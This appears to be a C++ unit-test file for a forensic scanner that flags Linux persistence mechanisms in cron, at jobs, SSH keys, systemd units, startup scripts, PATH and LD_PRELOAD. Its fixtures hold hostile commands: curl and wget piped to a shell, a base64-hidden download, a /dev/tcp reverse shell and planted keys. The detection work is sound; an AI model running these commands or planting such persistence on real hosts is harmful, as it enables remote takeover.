// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "unit/checks/persistence_check_util.hpp"
#include "unit/parsers/text_parse_util.hpp"

namespace deadbox::checks {
namespace {

using persistence_testing::Case;
using persistence_testing::max_severity;

TEST(CronDownloadExec, DownloadPipedToShellIsCriticalWithEvidence) {
  Case c;
  c.add("unix/crontab", "/etc/cron.d/sysupdate",
        "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://198.51.100.7/ldr.sh | sh\n"
        "0 2 * * * root /usr/local/bin/backup.sh\n");
  const auto fs = c.run("persistence/cron_download_exec");
  ASSERT_EQ(fs.size(), 1u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kCritical);
  EXPECT_EQ(fs[0].attack_id, "T1053.003");
  ASSERT_EQ(fs[0].evidence.size(), 1u);
  EXPECT_EQ(fs[0].evidence[0].path, "/etc/cron.d/sysupdate");
  EXPECT_EQ(fs[0].evidence[0].line, 2u);
  EXPECT_EQ(fs[0].evidence[0].volume, "p1");
  EXPECT_NE(fs[0].evidence[0].excerpt.find("198.51.100.7/ldr.sh"), std::string::npos);
  EXPECT_NE(fs[0].message.find("downloads with curl"), std::string::npos);
  EXPECT_NE(fs[0].message.find("pipes into an interpreter"), std::string::npos);
}

TEST(CronDownloadExec, OddPathsDecodingAndAtJobs) {
  Case c;
  c.add("unix/crontab", "/var/spool/cron/crontabs/www-data",
        "@reboot /dev/shm/.x/kworker >/dev/null 2>&1\n"
        "*/10 * * * * echo Y3VybCBodHRwOi8vZXZpbC9hfHNo | base64 -d | bash\n"
        "0 * * * * cd /tmp && ./updater\n"
        "15 3 * * * find /tmp -type f -mtime +7 -delete\n"
        "30 1 * * * /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null\n"
        "*/1 * * * * bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n");
  c.add("unix/at_job", "/var/spool/cron/atjobs/a0001b01c6c0f0",
        "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n exit 1\n}\n"
        "${SHELL:-/bin/sh} << 'marcinDELIMITER1'\nwget -q -O /tmp/a http://203.0.113.5/a; chmod +x /tmp/a; /tmp/a\n"
        "marcinDELIMITER1\n");
  const auto fs = c.run("persistence/cron_download_exec");
  ASSERT_EQ(fs.size(), 5u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);  // /dev/shm hidden binary at boot
  EXPECT_NE(fs[0].message.find("/dev/shm/.x/kworker"), std::string::npos);
  EXPECT_EQ(fs[0].message.find("for www-data") != std::string::npos, true);
  EXPECT_EQ(fs[1].severity, Severity::kCritical);  // base64 -d | bash
  EXPECT_EQ(fs[2].severity, Severity::kHigh);      // cd /tmp && ./updater
  EXPECT_EQ(fs[2].evidence[0].line, 3u);
  EXPECT_EQ(fs[3].severity, Severity::kCritical);  // /dev/tcp reverse shell
  EXPECT_EQ(fs[3].evidence[0].line, 6u);
  EXPECT_EQ(fs[4].attack_id, "T1053.002");
  EXPECT_EQ(fs[4].severity, Severity::kCritical);
  ASSERT_TRUE(fs[4].first_seen.has_value());
}

TEST(CronDownloadExec, HealthCheckPingIsOnlyMedium) {
  Case c;
  c.add("unix/crontab", "/etc/cron.d/ping",
        "*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc\n");
  const auto fs = c.run("persistence/cron_download_exec");
  ASSERT_EQ(fs.size(), 1u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kMedium);
}

TEST(RedisWrittenFile, OneCriticalFindingPerFileWithKindSpecificAttackId) {
  const std::string job = "*/1 * * * * curl -fsSL http://198.51.100.7/x.sh | sh";
  const std::string key =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGvTxxTnyscQ6DZhVOwXHluOMZPlkeTjXKUQV96Vq9PJ r@x";
  Case c;
  c.add("unix/crontab", "/var/spool/cron/root",
        parsers::text_testing::redis_rdb("backup1", "\n\n" + job + "\n\n"));
  c.add("unix/ssh_authorized_key", "/root/.ssh/authorized_keys",
        parsers::text_testing::redis_rdb("crackit", "\n\n\n" + key + "\n\n\n"));
  c.add("unix/crontab", "/etc/crontab", "0 2 * * * root /usr/local/bin/backup.sh\n");
  const auto fs = c.run("persistence/redis_written_file");
  ASSERT_EQ(fs.size(), 2u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kCritical);
  EXPECT_EQ(fs[0].evidence[0].path, "/root/.ssh/authorized_keys");
  EXPECT_EQ(fs[0].attack_id, "T1098.004");
  EXPECT_EQ(fs[1].attack_id, "T1053.003");
  ASSERT_EQ(fs[1].evidence.size(), 2u);  // the file record and the job line
  EXPECT_EQ(fs[1].evidence[1].excerpt, job);
  // The Redis-planted key is not double-reported by the authorized_keys check.
  EXPECT_TRUE(c.run("persistence/authorized_keys").empty());
  // The planted job is still judged on its own.
  EXPECT_EQ(c.run("persistence/cron_download_exec").size(), 1u);
}

TEST(AuthorizedKeys, OrdinaryUserKeyIsNotAFindingButOddPlacementsAre) {
  const std::string key =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGvTxxTnyscQ6DZhVOwXHluOMZPlkeTjXKUQV96Vq9PJ";
  Case c;
  c.add("unix/ssh_authorized_key", "/home/admin/.ssh/authorized_keys", key + " admin@laptop\n");
  c.add("unix/ssh_authorized_key", "/root/.ssh/authorized_keys", key + " admin@laptop\n");
  c.add("unix/ssh_authorized_key", "/var/lib/redis/.ssh/authorized_keys", key + " x\n");
  c.add("unix/ssh_authorized_key", "/home/backup/.ssh/authorized_keys",
        "command=\"/usr/bin/rrsync -ro /srv\",no-pty " + key + " backup\n"
        "command=\"curl -s http://203.0.113.5/k|sh\" " + key + " evil\n");
  const auto fs = c.run("persistence/authorized_keys");
  ASSERT_EQ(fs.size(), 4u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kLow);  // root's key
  EXPECT_EQ(fs[0].evidence[0].path, "/root/.ssh/authorized_keys");
  EXPECT_EQ(fs[1].severity, Severity::kHigh);  // service account home
  EXPECT_NE(fs[1].message.find("SHA256:DvgKSe+ztbgma9xCDNdZhinZE2LZVViEGbjGJdY/+I8"),
            std::string::npos);
  EXPECT_EQ(fs[2].severity, Severity::kMedium);  // rrsync forced command
  EXPECT_EQ(fs[3].severity, Severity::kHigh);    // forced command downloads
  EXPECT_EQ(fs[3].evidence[0].line, 2u);
}

TEST(SystemdExecOddPath, OddExecAndTimerActivation) {
  Case c;
  c.add("linux/systemd_unit", "/etc/systemd/system/dbus-helper.service",
        "[Service]\nExecStart=/var/tmp/.dbus/dbus-helper --daemon\n[Install]\nWantedBy=multi-user.target\n");
  c.add("linux/systemd_unit", "/etc/systemd/system/dbus-helper.timer",
        "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=10min\n");
  c.add("linux/systemd_unit", "/lib/systemd/system/ssh.service",
        "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n"
        "ExecReload=/bin/kill -HUP $MAINPID\n");
  c.add("linux/systemd_unit", "/etc/systemd/system/cron.service.d/override.conf",
        "[Service]\nExecStartPost=-/bin/sh -c 'wget -qO- http://203.0.113.5/s | sh'\n");
  const auto fs = c.run("persistence/systemd_exec_odd_path");
  ASSERT_EQ(fs.size(), 2u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[0].attack_id, "T1053.006");
  EXPECT_NE(fs[0].message.find("dbus-helper.timer"), std::string::npos);
  EXPECT_EQ(fs[0].evidence[0].line, 2u);
  EXPECT_EQ(fs[1].severity, Severity::kCritical);
  EXPECT_EQ(fs[1].attack_id, "T1543.002");
  EXPECT_NE(fs[1].message.find("(drop-in)"), std::string::npos);
}

TEST(StartupScriptExec, RcLocalAndBashrc) {
  Case c;
  c.add("unix/shell_startup", "/etc/rc.local",
        "#!/bin/sh -e\nnohup /usr/lib/.sshd/sshd-agent >/dev/null 2>&1 &\nexit 0\n");
  c.add("unix/shell_startup", "/home/bob/.bashrc",
        "alias ls='ls --color=auto'\nalias sudo='/tmp/.s/sudo'\n"
        "(curl -s http://203.0.113.5/b | bash &) 2>/dev/null\n");
  const auto fs = c.run("persistence/startup_script_exec");
  ASSERT_EQ(fs.size(), 3u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].attack_id, "T1037.004");
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[0].evidence[0].line, 2u);
  EXPECT_EQ(fs[1].attack_id, "T1546.004");
  EXPECT_EQ(fs[1].severity, Severity::kHigh);  // alias to a hidden /tmp binary
  EXPECT_EQ(fs[2].severity, Severity::kCritical);
}

TEST(StartupScriptExec, DetachedSilencedLaunchInRcLocalIsMedium) {
  Case c;
  c.add("unix/shell_startup", "/etc/rc.d/rc.local",
        "#!/bin/bash\ntouch /var/lock/subsys/local\nnohup /usr/bin/kdevtmpfsi >/dev/null 2>&1 &\n");
  c.add("unix/shell_startup", "/etc/init.d/foo", "nohup /usr/sbin/food >/dev/null 2>&1 &\n");
  c.add("unix/shell_startup", "/etc/rc.local", "/usr/local/bin/fan-control --quiet\n");
  const auto fs = c.run("persistence/startup_script_exec");
  ASSERT_EQ(fs.size(), 1u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kMedium);
  EXPECT_EQ(fs[0].attack_id, "T1037.004");
  EXPECT_EQ(fs[0].evidence[0].line, 3u);
}

TEST(PathHijack, DebianInitScriptParameterExpansionIsNotAnEntry) {
  Case c;
  c.add("unix/shell_startup", "/etc/init.d/ssh",
        "export PATH=\"${PATH:+$PATH:}/usr/sbin:/sbin\"\n");
  const auto fs = c.run("persistence/path_hijack");
  EXPECT_TRUE(fs.empty()) << persistence_testing::dump(fs);
}

TEST(PathHijack, HiddenAndTemporaryEntriesAheadOfSystemDirs) {
  Case c;
  c.add("unix/shell_startup", "/etc/profile.d/env.sh",
        "export PATH=\"/usr/lib/.cache/bin:$PATH\"\nPATH=$PATH:/tmp/bin\nPATH=.:$PATH\n");
  c.add("unix/shell_startup", "/home/alice/.profile",
        "PATH=\"$HOME/bin:$PATH\"\nPATH=\"$HOME/.local/bin:$PATH\"\n");
  c.add("unix/shell_startup", "/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n");
  const auto fs = c.run("persistence/path_hijack");
  ASSERT_EQ(fs.size(), 3u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_NE(fs[0].message.find("/usr/lib/.cache/bin"), std::string::npos);
  EXPECT_EQ(fs[0].attack_id, "");  // filled from the descriptor (T1574.007) by run_all
  EXPECT_EQ(fs[1].severity, Severity::kMedium);  // after $PATH
  EXPECT_EQ(fs[2].severity, Severity::kMedium);  // relative '.'
  EXPECT_EQ(fs[2].evidence[0].line, 3u);
}

TEST(LdSoPreload, EveryEntryOddLocationsCritical) {
  Case c;
  c.add("linux/ld_so_preload", "/etc/ld.so.preload",
        "/usr/local/lib/libprocesshider.so\n/etc/.x/libz.so\n");
  const auto fs = c.run("persistence/ld_so_preload");
  ASSERT_EQ(fs.size(), 2u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[1].severity, Severity::kCritical);
  EXPECT_EQ(fs[1].evidence[0].line, 2u);
}

TEST(LdPreloadEnv, StartupFilesAndUnits) {
  Case c;
  c.add("unix/shell_startup", "/etc/environment", "LD_PRELOAD=/lib/x86_64-linux-gnu/libsys.so\n");
  c.add("unix/shell_startup", "/root/.bashrc", "export LD_PRELOAD=\n");
  c.add("linux/systemd_unit", "/etc/systemd/system/a.service",
        "[Service]\nEnvironment=\"LD_PRELOAD=/tmp/l.so\"\nExecStart=/usr/bin/a\n");
  const auto fs = c.run("persistence/ld_preload_env");
  ASSERT_EQ(fs.size(), 2u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[0].evidence[0].path, "/etc/environment");
  EXPECT_NE(fs[1].message.find("a.service"), std::string::npos);
}

TEST(PersistenceChecks, RunAllFillsAttackIdsAndSortsBySeverity) {
  Case c;
  c.add("unix/shell_startup", "/etc/profile.d/env.sh", "export PATH=\"/dev/shm/.b:$PATH\"\n");
  c.add("linux/ld_so_preload", "/etc/ld.so.preload", "/dev/shm/.b/l.so\n");
  const auto fs = c.run_all_checks();
  ASSERT_GE(fs.size(), 2u);
  bool path = false, preload = false;
  for (const auto& f : fs) {
    if (f.check_id == "persistence/path_hijack") path = f.attack_id == "T1574.007";
    if (f.check_id == "persistence/ld_so_preload")
      preload = f.attack_id == "T1574.006" && f.severity == Severity::kCritical;
  }
  EXPECT_TRUE(path);
  EXPECT_TRUE(preload);
  for (size_t i = 1; i < fs.size(); ++i) EXPECT_GE(fs[i - 1].severity, fs[i].severity);
  EXPECT_GE(max_severity(fs), Severity::kCritical);
}

}  // namespace
}  // namespace deadbox::checks
